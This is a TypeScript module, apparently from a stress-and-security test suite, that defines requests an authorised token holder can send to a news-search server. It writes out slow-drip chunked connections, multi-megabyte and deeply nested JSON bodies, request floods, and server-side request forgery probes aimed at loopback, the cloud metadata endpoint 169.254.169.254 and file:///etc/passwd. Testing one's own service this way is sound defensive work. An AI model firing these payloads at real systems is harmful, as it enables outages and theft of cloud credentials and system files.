import { type Ask, type Attack, askGreedily, holdConnections } from "./attack.ts";

/** What whoever holds a token with every scope can send to the search server. */

const GREEDY = 8;

export function holderAttacks({ token }: { readonly token: string }): readonly Attack[] {
  const authorization = `Bearer ${token}`;
  const json = (path: string, body: string | Buffer): Ask => ({
    method: "POST",
    path,
    headers: { "content-type": "application/json", authorization },
    body,
  });
  const greedy = (name: string, asks: readonly Ask[], clients = GREEDY): Attack => {
    let turn = 0;
    return {
      name: `${name} (token)`,
      run: (target) => askGreedily(target, clients, () => asks[turn++ % asks.length] ?? { path: "/" }),
    };
  };
  const follow = (query: string, address: string): Ask =>
    json("/api/v1/alerts", JSON.stringify({ search: { query }, channel: "webhook", address }));
  return [
    {
      name: "200 bodies that dribble to POST /api/v1/articles (token)",
      run: (target) =>
        holdConnections(target, {
          connections: 200,
          send: `POST /api/v1/articles HTTP/1.1\r\nHost: a\r\nAuthorization: ${authorization}\r\nContent-Type: application/json\r\nTransfer-Encoding: chunked\r\n\r\n`,
          drip: "1\r\n[\r\n",
          everyMs: 1000,
        }),
    },
    greedy("POST [{},{},…] of 7.8 MB", [json("/api/v1/articles", Buffer.from(`[${"{},".repeat(2_600_000)}{}]`))], 2),
    greedy("POST [ × 500,000", [json("/api/v1/articles", Buffer.from("[".repeat(500_000)))], 2),
    greedy(`${GREEDY} × previews of alerts`, [
      json("/api/v1/alerts/preview", JSON.stringify({ search: { query: "中国" } })),
      json("/api/v1/alerts/preview", JSON.stringify({ search: { query: "经济 报告 发展", mode: "semantic" } })),
      { path: "/follow?q=%E4%B8%AD%E5%9B%BD", headers: { authorization } },
    ]),
    greedy(`${GREEDY} × alerts to this machine and its network`, [
      follow("台风", "http://127.0.0.1:1/"),
      follow("洪水", "http://169.254.169.254/latest/meta-data/"),
      follow("地震", "http://[::1]:1/"),
    ]),
    greedy(`${GREEDY} × sources and alerts listed`, [
      { path: "/sources", headers: { authorization } },
      { path: "/api/v1/alerts", headers: { authorization } },
      { path: "/api/v1/sources", headers: { authorization } },
    ]),
    greedy(`${GREEDY} × sources on this machine and its network`, [
      json("/api/v1/sources", JSON.stringify({ url: "http://127.0.0.1:1/feed" })),
      json("/api/v1/sources", JSON.stringify({ url: "http://169.254.169.254/latest/meta-data/" })),
      json("/api/v1/sources", JSON.stringify({ url: "file:///etc/passwd" })),
      json("/api/v1/sources", JSON.stringify({ url: "http://2130706433/" })),
    ]),
  ];
}
